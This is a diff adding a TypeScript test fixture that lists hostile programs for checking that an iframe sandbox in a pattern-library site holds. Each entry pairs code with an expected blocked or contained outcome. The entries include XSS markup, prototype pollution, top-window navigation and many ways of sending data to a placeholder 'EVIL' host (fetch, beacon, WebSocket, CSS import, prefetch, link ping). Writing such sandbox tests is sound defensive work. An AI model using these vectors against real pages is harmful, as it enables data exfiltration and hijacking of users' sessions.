@@ -1,0 +1,202 @@
+import type { HostileProgram } from './outcome.ts';
+
+const link = (attributes: string): string =>
+  `const link = Object.assign(document.createElement('link'), ${attributes});\ndocument.head.append(link);`;
+const anchor = (attributes: string): string =>
+  `const a = Object.assign(document.createElement('a'), ${attributes});\ndocument.body.append(a);\na.click();`;
+
+/** Programs that want something of the page, or to lead it away. */
+const TOWARDS_THE_PAGE: readonly HostileProgram[] = [
+  { name: "the page's document", code: 'parent.document.title;', outcome: /SecurityError/ },
+  { name: "the top window's document", code: 'top.document.body.innerHTML = "owned";', outcome: /SecurityError/ },
+  { name: "the page's storage", code: 'parent.localStorage.clear();', outcome: /SecurityError/ },
+  { name: 'storage of its own', code: "localStorage.setItem('theme-preference', 'dark');", outcome: /SecurityError/ },
+  { name: 'cookies', code: "document.cookie = 'owned=1';", outcome: /SecurityError/ },
+  { name: 'a database', code: "indexedDB.open('owned');", outcome: /SecurityError/ },
+  {
+    name: 'a channel to other windows',
+    code: "new BroadcastChannel('patternbook').postMessage('owned');",
+    outcome: 'shown'
+  },
+  {
+    name: 'a service worker',
+    code: "navigator.serviceWorker.register('/assets/main.js');",
+    outcome: /SecurityError|TypeError/
+  },
+  { name: "the page's address", code: "top.location = 'EVIL/top';", outcome: /SecurityError/ },
+  { name: "the page's address, by a link", code: anchor("{ href: 'EVIL/target', target: '_top' }"), outcome: 'shown' },
+  { name: "the page's history", code: 'history.back();\nhistory.go(-1);', outcome: 'shown' },
+  {
+    name: "the page's focus",
+    code: "const field = document.createElement('input');\ndocument.body.append(field);\nfield.focus();",
+    outcome: 'shown'
+  },
+  { name: 'the whole screen', code: 'document.body.requestFullscreen();', outcome: 'shown' },
+  { name: 'a dialog', code: "alert('owned');\nconfirm('owned');\nprompt('owned');\nprint();", outcome: 'shown' },
+  {
+    name: 'messages in the name of the site',
+    code: "parent.postMessage('patternbook:connect', '*');\nparent.postMessage({ kind: 'shown', run: 1 }, '*');",
+    outcome: 'shown'
+  },
+  {
+    name: 'the port of the frame, for messages of its own',
+    code: "Object.defineProperty(MessageEvent.prototype, 'data', { get() { this.target.postMessage({ kind: 'height', height: 1e9 }); this.target.postMessage({ kind: 'console', run: 1, level: 'log', text: '<img src=x onerror=alert(1)>' }); this.target.postMessage({ kind: 'failed', run: 1, failure: { phase: 'load', message: { toString: 1 }, stack: 1 } }); return { kind: 'none' }; } });",
+    outcome: 'shown or stopped'
+  }
+];
+
+/** Programs that want to leave, or to be somewhere else. */
+const AWAY: readonly HostileProgram[] = [
+  { name: 'its own address', code: "location.href = 'EVIL/location';", outcome: 'shown or stopped' },
+  { name: 'its own address, replaced', code: "location.replace('EVIL/replace');", outcome: 'shown or stopped' },
+  { name: 'its own address, on this site', code: "location.href = '/';", outcome: 'stopped' },
+  {
+    name: 'a document of data',
+    code: "location.href = 'data:text/html,<img src=EVIL/data>';",
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'a document of a blob',
+    code: "location.href = URL.createObjectURL(new Blob(['<img src=EVIL/blob>'], { type: 'text/html' }));",
+    outcome: 'shown or stopped'
+  },
+  { name: 'a script as an address', code: "location.href = `javascript:fetch('EVIL/javascript')`;", outcome: 'shown' },
+  {
+    name: 'a refresh',
+    code: "const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=EVIL/refresh' });\ndocument.head.append(meta);",
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'a form',
+    code: "const form = Object.assign(document.createElement('form'), { action: 'EVIL/form', method: 'post' });\ndocument.body.append(form);\nform.submit();",
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'a form in a new window',
+    code: "const form = Object.assign(document.createElement('form'), { action: 'EVIL/form', target: '_blank' });\ndocument.body.append(form);\nform.requestSubmit();",
+    outcome: 'shown or stopped'
+  },
+  { name: 'a window', code: "window.open('EVIL/window');", outcome: 'shown' },
+  { name: 'a window by a link', code: anchor("{ href: 'EVIL/blank', target: '_blank' }"), outcome: 'shown' },
+  { name: 'a download', code: anchor("{ href: 'data:text/plain,owned', download: 'owned.txt' }"), outcome: 'shown' },
+  {
+    name: 'its own end',
+    code: 'window.close();\nwindow.stop();\ndocument.documentElement.remove();',
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'writing itself anew',
+    code: "document.open();\ndocument.write('<img src=EVIL/write>');\ndocument.close();",
+    outcome: 'shown or stopped'
+  }
+];
+
+/** Programs that want to tell another server something. */
+const OUT: readonly HostileProgram[] = [
+  { name: 'a request', code: "fetch('EVIL/fetch').catch(() => undefined);", outcome: 'shown' },
+  {
+    name: 'a request of the old kind',
+    code: "const request = new XMLHttpRequest();\nrequest.open('GET', 'EVIL/xhr');\nrequest.send();",
+    outcome: 'shown'
+  },
+  { name: 'a beacon', code: "navigator.sendBeacon('EVIL/beacon', 'owned');", outcome: 'shown' },
+  { name: 'a socket', code: "new WebSocket('EVIL/socket'.replace('http', 'ws'));", outcome: 'shown' },
+  { name: 'a stream of events', code: "new EventSource('EVIL/events');", outcome: 'shown' },
+  { name: 'a picture', code: "new Image().src = 'EVIL/image';", outcome: 'shown' },
+  {
+    name: 'pictures of many kinds',
+    code: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=EVIL/svg></image><use href=EVIL/use#x></use></svg><video src=EVIL/video poster=EVIL/poster></video><input type=image src=EVIL/input><object data=EVIL/object></object><embed src=EVIL/embed>');",
+    outcome: 'shown'
+  },
+  { name: 'a style sheet', code: link("{ rel: 'stylesheet', href: 'EVIL/sheet' }"), outcome: 'shown' },
+  {
+    name: 'styles that load',
+    code: "document.head.insertAdjacentHTML('beforeend', '<style>@import \"EVIL/import\"; @font-face { font-family: x; src: url(EVIL/font) } body { font-family: x; background: url(EVIL/background); cursor: url(EVIL/cursor), auto }</style>');",
+    outcome: 'shown'
+  },
+  {
+    name: 'a script',
+    code: "document.head.append(Object.assign(document.createElement('script'), { src: 'EVIL/script' }));",
+    outcome: 'shown'
+  },
+  { name: 'a module', code: "import('EVIL/module').catch(() => undefined);", outcome: 'shown' },
+  {
+    name: 'a worker',
+    code: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"])));',
+    outcome: 'shown'
+  },
+  {
+    name: 'a frame',
+    code: "document.body.append(Object.assign(document.createElement('iframe'), { src: 'EVIL/frame' }));",
+    outcome: 'shown'
+  },
+  {
+    name: 'a frame with a text',
+    code: "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=EVIL/srcdoc>' }));",
+    outcome: 'shown'
+  },
+  {
+    name: 'an empty frame to take functions from',
+    code: "const frame = document.body.appendChild(document.createElement('iframe'));\nframe.contentWindow.fetch('EVIL/inner');",
+    outcome: /SecurityError|TypeError/
+  },
+  {
+    name: 'a connection between browsers',
+    code: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] });",
+    outcome: /RTCPeerConnection is not defined/
+  },
+  { name: 'a look-up of a name', code: link("{ rel: 'dns-prefetch', href: '//secret.example' }"), outcome: 'shown' },
+  { name: 'a connection ahead of time', code: link("{ rel: 'preconnect', href: 'EVIL' }"), outcome: 'shown' },
+  { name: 'a page ahead of time', code: link("{ rel: 'prefetch', href: 'EVIL/prefetch' }"), outcome: 'shown' },
+  {
+    name: 'a part ahead of time',
+    code: link("{ rel: 'preload', as: 'image', href: 'EVIL/preload' }"),
+    outcome: 'shown'
+  },
+  {
+    name: 'a module ahead of time',
+    code: link("{ rel: 'modulepreload', href: 'EVIL/modulepreload' }"),
+    outcome: 'shown'
+  },
+  {
+    name: 'a guess about the next page',
+    code: 'document.head.append(Object.assign(document.createElement(\'script\'), { type: \'speculationrules\', text: \'{"prefetch":[{"source":"list","urls":["EVIL/guess"]}]}\' }));',
+    outcome: 'shown'
+  },
+  { name: 'a ping of a link', code: anchor("{ href: '#', ping: 'EVIL/ping' }"), outcome: 'shown' },
+  {
+    name: 'a report of a policy',
+    code: "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"Content-Security-Policy\" content=\"img-src x; report-uri EVIL/report\">');\nnew Image().src = '/x.png';",
+    outcome: 'shown'
+  }
+];
+
+/** Programs that want the next example to be theirs. */
+const WITHIN: readonly HostileProgram[] = [
+  { name: 'code from a text', code: "new Function('return 1')();", outcome: /EvalError|unsafe-eval/ },
+  { name: "the registry's React", code: 'patternbook.define({});\npatternbook.define = null;', outcome: /TypeError/ },
+  {
+    name: 'what all objects inherit',
+    code: "Object.prototype.kind = 'shown';\nObject.prototype.toString = null;\nArray.prototype.map = () => ['owned'];",
+    outcome: 'failed or stopped'
+  },
+  {
+    name: 'the document of the frame',
+    code: "document.body.innerHTML = '';\ndocument.head.innerHTML = '';",
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'the exports of a library',
+    code: "import * as core from '@patternfly/react-core';\ncore.Button = () => 'owned';",
+    outcome: /TypeError/
+  },
+  { name: 'an error without a text', code: 'throw { toString() { throw null; } };', outcome: /has no text/ },
+  {
+    name: 'an error with markup',
+    code: "throw new Error('<img src=EVIL/error onerror=alert(1)>');",
+    outcome: /Error: <img/
+  }
+];
+
+/** Programs that want out of their frame. */
+export const ESCAPES: readonly HostileProgram[] = [...TOWARDS_THE_PAGE, ...AWAY, ...OUT, ...WITHIN];
